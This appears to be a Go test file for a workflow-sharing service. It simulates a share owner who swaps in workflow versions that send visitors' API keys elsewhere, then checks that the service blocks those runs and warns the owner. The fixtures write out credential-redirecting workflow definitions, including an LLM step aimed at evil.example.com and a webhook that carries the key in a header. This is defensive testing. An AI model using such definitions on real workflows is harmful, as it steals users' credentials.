package sharing_test

import (
	"fmt"
	"strings"
	"testing"

	errorsv1 "github.com/keyhole-dev/keyhole/proto/gen/go/keyhole/errors/v1"
	sharingv1 "github.com/keyhole-dev/keyhole/proto/gen/go/keyhole/sharing/v1"
	"github.com/keyhole-dev/keyhole/services/kit/errs"
	"github.com/keyhole-dev/keyhole/services/kit/testkit"
	"github.com/keyhole-dev/keyhole/services/kit/testkit/attack"
)

// harvest is a version that sends the value of the input "key" elsewhere than keyInput.
type harvest struct {
	definition string
	// destination is the one that a client confirms; empty where no client can.
	destination string
}

// asking returns keyInput with other steps and another output.
func asking(output string, steps ...string) string {
	return `{"version":"1.0","inputs":[{"type":"WorkflowParameter","name":"question"},{"type":"WorkflowParameter","name":"key"}],
		"steps":[` + strings.Join(steps, ",") + `],"outputs":[{"type":"JsonField","name":"answer","selector":"` + output + `"}]}`
}

func llmAt(address, prompt, key string) string {
	return fmt.Sprintf(`{"type":"roboflow_core/openai_compatible@v1","name":"llm","base_url":%q,"model_name":"m","prompt":%q,"api_key":%q}`, address, prompt, key)
}

func hookAt(address, header string) string {
	return fmt.Sprintf(`{"type":"roboflow_core/webhook_sink@v1","name":"hook","url":%q,"method":"POST","headers":{%q:"$inputs.key"}}`, address, header)
}

func harvests() map[string]harvest {
	at := func(address, destination string) harvest {
		return harvest{asking("$steps.llm.output", llmAt(address, "$inputs.question", "$inputs.key")), destination}
	}
	return map[string]harvest{
		"another host":   at("https://evil.example.com/v1", "https://evil.example.com"),
		"another port":   at("https://llm.example.com:8443/v1", "https://llm.example.com:8443"),
		"another scheme": at("http://llm.example.com/v1", "http://llm.example.com"),
		"another path":   at("https://llm.example.com/tenants/evil", "https://llm.example.com"),
		"another provider on the host": {
			asking("$steps.hook.error_status", hookAt("https://llm.example.com/v1", "Authorization")), "https://llm.example.com",
		},
		"one more place on the host": {
			asking("$steps.llm.output", llmAt("https://llm.example.com/v1", "$inputs.question", "$inputs.key"), hookAt("https://llm.example.com/v1", "X-Api-Key")),
			"https://llm.example.com",
		},
		"a prompt":  {asking("$steps.llm.output", strings.Replace(llmAt("https://llm.example.com/v1", "$inputs.key", ""), `"api_key":""`, `"api_key":null`, 1)), ""},
		"an output": {asking("$inputs.key"), ""},
	}
}

// TestAttackLinkDestinations: an owner changes the version under a link that visitors
// use, to get the key that their clients send every day under the same name.
func TestAttackLinkDestinations(t *testing.T) {
	t.Parallel()
	a := attack.New(t, "A6", "owners change where a link's visitors' keys go")
	for name, h := range harvests() {
		for _, how := range []string{"live", "repin"} {
			t.Run(name+" "+how, func(t *testing.T) {
				t.Parallel()
				on(t, func(t *testing.T, s *harness) { harvestOnce(t, a, s, h, how) })
			})
		}
	}
}

func harvestOnce(t *testing.T, a *attack.Attack, s *harness, h harvest, how string) {
	s.workflow("acme", "key", keyInput)
	share := s.share("acme", "key", &sharingv1.Share{FollowLive: how == "live"})
	n := 0
	run := func(destinations map[string]string) error {
		n++
		r := authorize(share.GetToken(), fmt.Sprint("r", n), 0, "question", "key")
		r.Destinations = destinations
		_, err := s.runner.AuthorizeRun(s.member("visitor"), r)
		return err
	}
	change := func(definition string) {
		v := s.save("acme", "key", definition).GetLiveVersion()
		if how == "repin" {
			_, err := s.api.UpdateShare(s.member("acme"), &sharingv1.UpdateShareRequest{
				Share: &sharingv1.Share{Name: share.GetName(), Version: v}, UpdateMask: mask("version"),
			})
			must(t, err)
		}
		s.settle()
	}
	stopped := func(err error) bool { return errs.ReasonOf(err) == errorsv1.Reason_REASON_DESTINATION_CHANGED }
	must(t, run(nil)) // the day before
	change(h.definition)
	a.Attempt(stopped(run(nil)), "%s: a client that names no destination sent its key", how)
	seenBefore := map[string]string{"key": "https://llm.example.com"}
	if h.destination != "https://llm.example.com" {
		a.Attempt(stopped(run(seenBefore)), "%s: a client that names the old destination sent its key", how)
	}
	if h.destination != "" {
		must(t, run(map[string]string{"key": h.destination})) // a visitor who has looked
		a.Attempt(stopped(run(nil)), "%s: one client's word stood for another", how)
	}
	change(keyInput)
	must(t, run(nil)) // back to what was promised
	change(h.definition)
	a.Attempt(stopped(run(nil)), "%s: after a flip there and back", how)
	if h.destination == "" {
		return
	}
	// A new link promises what the version does. Its visitors have seen it.
	rotated, err := s.api.RotateShare(s.member("acme"), &sharingv1.RotateShareRequest{Name: share.GetName()})
	must(t, err)
	a.Attempt(errs.ReasonOf(run(nil)) == errorsv1.Reason_REASON_NOT_FOUND, "the old link works after a rotation")
	share = rotated
	must(t, run(nil))
}

// TestAttackLinkDestinationsNewName: a credential input that a later version adds was not
// promised either. A paused or resumed share keeps its promise.
func TestAttackLinkDestinationsNewName(t *testing.T) {
	t.Parallel()
	a := attack.New(t, "A6", "owners add a credential input to a link in use")
	s := newHarness(t, testkit.SQLite(t), "embedded:")
	s.workflow("acme", "ask", asking("$inputs.key"))
	share := s.share("acme", "ask", &sharingv1.Share{FollowLive: true})
	run := func(id string) error {
		_, err := s.preview(s.member("visitor"), share.GetToken(), id, "question", "key")
		return err
	}
	must(t, run("r1"))
	s.save("acme", "ask", keyInput)
	s.settle()
	a.Attempt(errs.ReasonOf(run("r2")) == errorsv1.Reason_REASON_DESTINATION_CHANGED, "a value under a known name became a credential")
	for _, change := range []func() error{
		func() error {
			_, err := s.api.PauseShare(s.member("acme"), &sharingv1.PauseShareRequest{Name: share.GetName()})
			return err
		},
		func() error {
			_, err := s.api.ResumeShare(s.member("acme"), &sharingv1.ResumeShareRequest{Name: share.GetName()})
			return err
		},
		func() error {
			_, err := s.api.UpdateShare(s.member("acme"), &sharingv1.UpdateShareRequest{Share: share, UpdateMask: mask("*")})
			return err
		},
	} {
		must(t, change())
	}
	s.settle()
	a.Attempt(errs.ReasonOf(run("r3")) == errorsv1.Reason_REASON_DESTINATION_CHANGED, "the owner's settings made a new promise")
	view, err := s.api.GetSharedWorkflow(s.guest("g"), &sharingv1.GetSharedWorkflowRequest{Token: share.GetToken()})
	must(t, err)
	if got := known(t, view).GetTerms().GetMovedCredentials(); len(got) != 1 || got[0] != "key" {
		t.Errorf("the view says that %v has moved", got)
	}
	owned, err := s.api.GetShare(s.member("acme"), &sharingv1.GetShareRequest{Name: share.GetName()})
	must(t, err)
	if last := owned.GetNotices()[len(owned.GetNotices())-1]; last.GetId() != "credentials.moved" {
		t.Errorf("the owner is not told: %v", owned.GetNotices())
	}
}
